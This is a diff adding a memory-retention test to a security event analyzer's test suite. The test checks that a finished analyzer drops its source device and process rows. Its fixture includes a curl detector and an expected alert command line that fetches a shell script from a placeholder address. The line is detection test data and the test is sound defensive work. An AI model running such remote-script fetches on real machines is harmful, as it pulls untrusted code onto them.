@@ -188,3 +188,39 @@ describe('evidence memory', () => {
     expect(retained).toBeLessThan(20e6);
   });
 });
+
+describe('an analyzer kept after finish()', () => {
+  it('holds its result, not the groups and device states it was made from', async () => {
+    setFlagsFromString('--expose-gc');
+    const gc = runInNewContext('gc') as () => void;
+    const { createAnalyzer } = await import('./analyze.js');
+    const seen: MdeEvent[][] = [];
+    const d = curl('test/curl-kept', seen, { cmd: { from: 'ProcessCommandLine', combine: 'first' } });
+    const analyzer = createAnalyzer({ detectors: [d], generatedAt: 'x' });
+    // Made in a function: the test itself holds no reference to the row.
+    const infoRef = ((info: MdeEvent) => {
+      analyzer.pushEvent(info);
+      return new WeakRef(info);
+    })(
+      makeEvent('DeviceInfo', {
+        Timestamp: '2025-11-07T06:00:01.3691661Z',
+        DeviceId: proc(1).deviceId,
+        DeviceName: NAME,
+        OSPlatform: 'Linux',
+        ReportId: '700000000000014801',
+      }),
+    );
+    for (let i = 0; i < 50; i++) analyzer.pushEvent(proc(i));
+    const result = analyzer.finish();
+    expect(result.alerts).toHaveLength(50);
+    // The device's latest DeviceInfo row (device state) and an evidence row (a group's sample).
+    const refs = [infoRef, new WeakRef(seen[0]![0]!)];
+    seen.length = 0;
+    // WeakRef targets live to the end of the current job.
+    await new Promise((resolve) => setImmediate(resolve));
+    gc();
+    expect(refs.map((r) => r.deref() === undefined)).toEqual([true, true]);
+    expect(analyzer.finish()).toBe(result);
+    expect(result.alerts[0]!.evidence.events[0]!.fields.ProcessCommandLine).toBe('curl -s http://203.0.113.0/x.sh');
+  });
+});
